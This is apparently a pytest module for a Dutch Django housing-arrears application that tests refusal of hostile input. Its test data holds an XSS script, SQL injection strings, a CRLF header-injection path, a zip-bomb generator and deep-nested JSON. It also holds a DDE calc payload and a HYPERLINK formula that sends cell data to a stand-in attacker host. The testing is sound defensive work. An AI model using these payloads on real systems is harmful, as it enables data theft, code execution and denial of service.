"""Hostile input: each item of docs/security-testing.md, caused for real against pages, the API and the import.

Every hostile input gets a clear refusal or is stored harmlessly; none yields a 500, and a refusal changes
nothing."""

import io
import zipfile
from datetime import timedelta

import pytest
from django.db import connection
from openpyxl import Workbook, load_workbook

from tests.factories import OrganisationFactory, client_for
from woonzeker.cases import services
from woonzeker.cases.constants import State
from woonzeker.cases.models import Case
from woonzeker.ledgers.models import ImportStatus, LedgerImport
from woonzeker.ledgers.parsing import REQUIRED_COLUMNS
from woonzeker.monitoring.refresh import refresh_figures
from woonzeker.organisations.models import OrganisationKind
from woonzeker.tenancies.models import Tenancy

pytestmark = pytest.mark.django_db

HEADER = ";".join(REQUIRED_COLUMNS)  # the contract's columns, in its order
FORMULA = '=HYPERLINK("http://aanvaller.example/?"&A1,"Klik hier")'
SCRIPT = '<script>alert("xss")</script><img src=x onerror=alert(1)>'
SQL = "'; DROP TABLE cases_case; --"
RTL_OVERRIDE = "Jan\u202ereteP"  # shows as "JanPeter" reversed: a name that lies about itself


def signal_form(world, today, **changes):
    data = {
        "contract_number": "H-1",
        "tenant_name": "J. Jansen",
        "street": "Voorstraat",
        "house_number": "12",
        "postcode": "3311AB",
        "town": "Dordrecht",
        "municipality": world.dordrecht.pk,
        "monthly_rent": "650,00",
        "arrears": "700,00",
        "established_on": (today - timedelta(days=3)).isoformat(),
    }
    return {**data, **changes}


def upload(client, tmp_path, name, content):
    path = tmp_path / name
    path.write_bytes(content)
    with path.open("rb") as handle:
        return client.post("/aanleveringen/", {"file": handle})


# --- Huge uploads ---------------------------------------------------------------------------------------


def test_a_ledger_over_the_size_limit_is_refused_with_the_limit(client, world, tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.LEDGER_MAX_UPLOAD_BYTES = 2 * 1024**2
    client.force_login(world.corporation_worker)
    response = upload(client, tmp_path, "groot.csv", (HEADER + "\n").encode() + b"x" * (3 * 1024**2))
    assert response.status_code == 200
    assert "Het bestand is groter dan 2 MB" in response.content.decode()
    assert not LedgerImport.objects.filter(status=ImportStatus.IMPORTED).exists()


def test_a_form_post_over_the_request_limit_is_a_400_not_a_crash(client, world, settings, today):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 100_000
    client.force_login(world.corporation_worker)
    response = client.post("/signalen/nieuw/", signal_form(world, today, tenant_name="x" * 200_000))
    assert response.status_code == 400
    assert not Case.objects.exists()


# --- XLSX zip bomb --------------------------------------------------------------------------------------


def zip_bomb(unpacked_mb):
    """A workbook whose sheet is megabytes of spaces: a few kB packed."""
    workbook = Workbook()
    workbook.active.append(HEADER.split(";"))
    packed = io.BytesIO()
    workbook.save(packed)
    bomb = io.BytesIO()
    with zipfile.ZipFile(packed) as source, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"<sheetData>", b"<sheetData>" + b" " * (unpacked_mb * 1024**2))
            target.writestr(item.filename, data)
    return bomb.getvalue()


def test_an_xlsx_zip_bomb_is_refused_before_it_is_unpacked(client, world, tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path / "media"
    bomb = zip_bomb(50)
    assert len(bomb) < 200_000  # 50 MB of sheet in a small file
    client.force_login(world.corporation_worker)
    upload(client, tmp_path, "bom.xlsx", bomb)
    record = LedgerImport.objects.get()
    assert record.status == ImportStatus.REFUSED
    assert "pakt uit tot 50 MB" in record.report["errors"][0]["message"]


# --- Formula injection ----------------------------------------------------------------------------------


def test_a_formula_in_a_name_is_neutralised_in_every_monitoring_export(client, world, make_case):
    corporation = world.corporation
    corporation.name = FORMULA
    corporation.save()
    OrganisationFactory(name="@SUM(1+1)*cmd|' /C calc'!A0", kind=OrganisationKind.SOCIAL_TEAM)
    make_case(State.REFERRED)
    refresh_figures()
    client.force_login(world.municipality_user)
    page = client.get("/monitoring/").content.decode()
    keys = sorted({part.split(".csv")[0] for part in page.split("/monitoring/export/")[1:] if ".csv" in part[:60]})
    assert keys, "the dashboard offers exports"
    for key in keys:
        csv_text = client.get(f"/monitoring/export/{key}.csv").content.decode("utf-8-sig")
        for line in csv_text.splitlines():
            for cell in line.split(";") if ";" in line else line.split(","):
                assert not cell.lstrip('"').startswith(("=", "+", "@")), (key, cell)
        sheet = load_workbook(io.BytesIO(client.get(f"/monitoring/export/{key}.xlsx").content)).active
        for row in sheet.iter_rows(values_only=True):
            for cell in row:
                assert not (isinstance(cell, str) and cell.startswith(("=", "+", "@"))), (key, cell)


# --- HTML and script in free text -----------------------------------------------------------------------


def test_html_and_script_in_every_free_text_field_are_shown_as_text(client, world, make_case, today):
    case = make_case(State.SIGNAL, tenant_name=SCRIPT, street=SCRIPT)
    services.record_approach(
        world.corporation_worker, case, channel="letter", approached_on=today, reached=True, result=SCRIPT
    )
    services.refer(world.corporation_worker, case, referred_on=today)
    services.record_analysis(
        world.team_worker, case, tenant_reached=True, problems={}, summary_for_corporation=SCRIPT, internal_notes=SCRIPT
    )
    client.force_login(world.team_worker)
    page = client.get(f"/dossiers/{case.pk}/").content.decode()
    assert "&lt;script&gt;alert(&quot;xss&quot;)&lt;/script&gt;" in page
    assert SCRIPT not in page and "<img src=x" not in page
    queue = client.get("/").content.decode()
    assert SCRIPT not in queue


# --- SQL metacharacters ---------------------------------------------------------------------------------


@pytest.mark.parametrize("query", [SQL, "%", "_", "\\", "' OR '1'='1", '" OR ""="'])
def test_sql_metacharacters_in_search_and_filters_find_nothing_and_break_nothing(client, world, make_case, query):
    make_case(State.SIGNAL)
    client.force_login(world.corporation_worker)
    response = client.get("/", {"q": query})
    assert response.status_code == 200
    api = client_for(world.corporation_worker).get("/api/v1/cases/", {"state": query, "established_from": query})
    assert api.status_code == 400
    assert Case.objects.count() == 1


def test_a_tenant_named_like_sql_is_stored_as_written(client, world, today):
    client.force_login(world.corporation_worker)
    response = client.post("/signalen/nieuw/", signal_form(world, today, tenant_name=SQL))
    assert response.status_code == 302
    assert Tenancy.objects.get().tenant_name == SQL


# --- Overlong fields ------------------------------------------------------------------------------------


def test_overlong_fields_are_field_errors_on_the_page_and_the_api(client, world, make_case, today):
    client.force_login(world.corporation_worker)
    response = client.post("/signalen/nieuw/", signal_form(world, today, tenant_name="x" * 5000))
    assert response.status_code == 400
    assert "niet meer dan 200 tekens" in response.content.decode()
    case = make_case(State.SIGNAL)
    api = client_for(world.corporation_worker)
    body = {"channel": "letter", "approached_on": today.isoformat(), "reached": "no", "result": "x" * 20_000}
    response = api.post(f"/api/v1/cases/{case.pk}/moves/record_approach/", body, format="json")
    assert response.status_code == 400
    assert response.json()["errors"][0]["field"] == "result"
    assert not case.approaches.exists()


# --- Unicode: control characters and confusables --------------------------------------------------------


@pytest.mark.parametrize("name", ["Jan\x00sen", RTL_OVERRIDE, "Jan\u200bsen", "Jan\x1b[31msen", "Jan\nsen"])
def test_control_and_invisible_characters_in_a_name_are_refused(client, world, today, name):
    client.force_login(world.corporation_worker)
    response = client.post("/signalen/nieuw/", signal_form(world, today, tenant_name=name))
    assert response.status_code == 400
    assert "onzichtbaar teken of stuurteken" in response.content.decode()
    assert not Tenancy.objects.exists()


def test_control_characters_in_a_ledger_are_errors_by_row_and_column(client, world, tmp_path, settings, today):
    settings.MEDIA_ROOT = tmp_path / "media"
    content = f"{HEADER}\n{today.isoformat()};C-1;Jan\u202ereteP;Voorstraat;1;3311AB;Dordrecht;650;0\n"
    content += f"{today.isoformat()};C-2;Piet\x00;Voorstraat;2;3311AB;Dordrecht;650;0\n"
    client.force_login(world.corporation_worker)
    upload(client, tmp_path, "stuur.csv", content.encode())
    record = LedgerImport.objects.get()
    assert record.status == ImportStatus.REFUSED
    errors = record.report["errors"]
    assert (errors[0]["row"], errors[0]["column"]) == (2, "huurder_naam")
    # A NUL byte means the file is not CSV UTF-8 at all (Excel's "Unicode text"): refused at its line.
    assert errors[1]["row"] == 3 and "UTF-8" in errors[1]["message"]
    assert not Tenancy.objects.exists()


def test_look_alike_letters_are_stored_as_typed_and_normalised(client, world, today):
    """A Cyrillic 'а' in a Latin name is accepted (real names mix scripts); 'é' typed as e + accent is stored
    composed, so it is found by a search typed either way."""
    client.force_login(world.corporation_worker)
    client.post("/signalen/nieuw/", signal_form(world, today, tenant_name="J\u0430nsen", contract_number="U-1"))
    client.post(
        "/signalen/nieuw/",
        signal_form(world, today, tenant_name="Rene\u0301", contract_number="U-2", house_number="13"),
    )
    names = set(Tenancy.objects.values_list("tenant_name", flat=True))
    assert names == {"J\u0430nsen", "Ren\u00e9"}
    assert "Ren\u00e9" in client.get("/", {"q": "Rene\u0301"}).content.decode()


# --- Dates far away -------------------------------------------------------------------------------------


@pytest.mark.parametrize("when", ["0001-01-01", "1900-01-01", "9999-12-31", "2999-01-01", "10000-01-01"])
def test_dates_far_in_the_past_or_future_are_refused(client, world, today, when):
    client.force_login(world.corporation_worker)
    response = client.post("/signalen/nieuw/", signal_form(world, today, established_on=when))
    assert response.status_code == 400
    api = client_for(world.corporation_worker)
    data = {**signal_form(world, today, established_on=when, contract_number="API-1"), "monthly_rent": "650.00"}
    response = api.post("/api/v1/cases/signals/", {**data, "arrears": "700.00"}, format="json")
    assert response.status_code == 400
    assert response.json()["errors"][0]["field"] == "established_on"
    assert not Case.objects.exists()


def test_a_ledger_dated_far_away_is_refused_with_the_reason(client, world, tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path / "media"
    client.force_login(world.corporation_worker)
    for when in ("0001-01-01", "9999-12-31"):
        upload(
            client, tmp_path, f"{when}.csv", f"{HEADER}\n{when};D-1;Jan;Voorstraat;1;3311AB;Dordrecht;650;0\n".encode()
        )
    assert set(LedgerImport.objects.values_list("status", flat=True)) == {ImportStatus.REFUSED}
    assert not Tenancy.objects.exists()


# --- Negative and absurd amounts ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("rent", "arrears"),
    [
        ("-650", "700"),
        ("650", "-700"),
        ("0", "700"),
        ("1e20", "700"),
        ("650", "99999999999"),
        ("NaN", "700"),
        ("650", "Infinity"),
        ("6,5,0", "700"),
    ],
)
def test_negative_and_absurd_amounts_are_field_errors(client, world, today, rent, arrears):
    client.force_login(world.corporation_worker)
    response = client.post("/signalen/nieuw/", signal_form(world, today, monthly_rent=rent, arrears=arrears))
    assert response.status_code == 400
    assert not Case.objects.exists()
    api = client_for(world.corporation_worker)
    response = api.post(
        "/api/v1/cases/signals/", signal_form(world, today, monthly_rent=rent, arrears=arrears), format="json"
    )
    assert response.status_code == 400
    assert not Case.objects.exists()


def test_absurd_amounts_in_a_ledger_are_errors_by_row(client, world, tmp_path, settings, today):
    settings.MEDIA_ROOT = tmp_path / "media"
    rows = [("-650", "0"), ("650", "-1"), ("1e20", "0"), ("650", "NaN")]
    content = (
        HEADER
        + "\n"
        + "".join(
            f"{today.isoformat()};A-{n};Jan;Voorstraat;{n};3311AB;Dordrecht;{rent};{arrears}\n"
            for n, (rent, arrears) in enumerate(rows, start=1)
        )
    )
    client.force_login(world.corporation_worker)
    upload(client, tmp_path, "bedragen.csv", content.encode())
    record = LedgerImport.objects.get()
    assert record.status == ImportStatus.REFUSED
    assert sorted(e["row"] for e in record.report["errors"]) == [2, 3, 4, 5]


@pytest.mark.skipif(connection.vendor != "postgresql", reason="NUL is what PostgreSQL itself refuses to store")
def test_a_nul_through_the_api_is_a_field_error_not_a_database_error(world, today):
    api = client_for(world.corporation_worker)
    response = api.post("/api/v1/cases/signals/", signal_form(world, today, tenant_name="Jan\x00"), format="json")
    assert response.status_code == 400
    assert not Tenancy.objects.exists()


# --- Paths and parameters -------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/api/v1/cases/%0Aw/moves/x/", "/api/v1/%00", "/api/v1/cases/1%0D%0ASet-Cookie:x/"])
def test_control_characters_in_an_api_path_are_a_problem_response(world, path):
    response = client_for(world.corporation_worker).post(path, {}, format="json")
    assert response.status_code in (404, 405)  # no such endpoint, or no such method on a case
    assert response["Content-Type"] == "application/problem+json"
    assert "x" not in response.cookies  # a line break in the path injects no header


@pytest.mark.parametrize("page", ["", "0", "-1", "last", "１"])
def test_a_page_number_that_is_not_one_is_a_field_error(world, page):
    response = client_for(world.corporation_worker).get("/api/v1/cases/", {"page": page})
    assert response.status_code == 400
    assert response.json()["errors"][0]["field"] == "page"


@pytest.mark.parametrize("number", ["abc", "-1", "1.5", "9" * 30, "１"])
def test_a_case_number_no_case_can_have_is_not_found(world, make_case, number):
    make_case(State.SIGNAL)
    api = client_for(world.corporation_worker)
    for response in (
        api.get(f"/api/v1/cases/{number}/"),
        api.post(f"/api/v1/cases/{number}/moves/refer/", {}, format="json"),
    ):
        assert response.status_code == 404, response.request["PATH_INFO"]
        assert response["Content-Type"] == "application/problem+json"


def test_a_page_past_the_end_is_not_found(world):
    response = client_for(world.corporation_worker).get("/api/v1/cases/", {"page": "9" * 30})
    assert response.status_code == 404
    assert response["Content-Type"] == "application/problem+json"


def test_a_formula_typed_as_a_reason_is_neutralised_in_the_audit_trail_export(client, world):
    from woonzeker.audit import services as audit
    from woonzeker.audit.models import AuditAction

    audit.record(world.municipality_user, AuditAction.EXPORT, "DDAS export", reason=FORMULA)
    client.force_login(world.privacy_officer)
    response = client.get("/privacy/", {"gebruiker": world.municipality_user.username, "formaat": "csv"})
    text = response.content.decode("utf-8-sig")
    assert "'=HYPERLINK" in text
    assert not any(cell.startswith("=") for line in text.splitlines() for cell in line.split(";"))


NESTED_100_000_DEEP = "[" * 100_000 + "]" * 100_000


@pytest.mark.parametrize("key", [None, "nested-1"])
@pytest.mark.parametrize("url", ["/api/v1/cases/signals/", "/api/v1/cases/{case}/moves/record_approach/"])
def test_a_json_body_nested_100_000_deep_is_a_400_problem_not_a_crash(world, make_case, url, key):
    # Python's JSON reader gives up on such a body with a RecursionError, which was a 500 (also in the
    # Idempotency-Key's fingerprint of the body).
    case = make_case(State.SIGNAL)
    headers = {"HTTP_IDEMPOTENCY_KEY": key} if key else {}
    body = '{"contract_number": ' + NESTED_100_000_DEEP + "}"
    response = client_for(world.corporation_worker).post(
        url.format(case=case.pk), body, content_type="application/json", **headers
    )
    assert response.status_code == 400
    assert response["Content-Type"] == "application/problem+json"
    assert response.json()["status"] == 400
    assert Case.objects.count() == 1 and not case.approaches.exists()


def test_an_idempotency_fingerprint_of_a_body_nested_too_deeply_is_a_parse_error():
    # The key's fingerprint writes the body out again to hash it; a structure deeper than the stack is refused.
    from types import SimpleNamespace

    from rest_framework.exceptions import ParseError

    from woonzeker.api.idempotency import fingerprint

    deep = []
    for _ in range(100_000):
        deep = [deep]
    with pytest.raises(ParseError):
        fingerprint(SimpleNamespace(method="POST", path="/api/v1/cases/signals/", data={"contract_number": deep}))
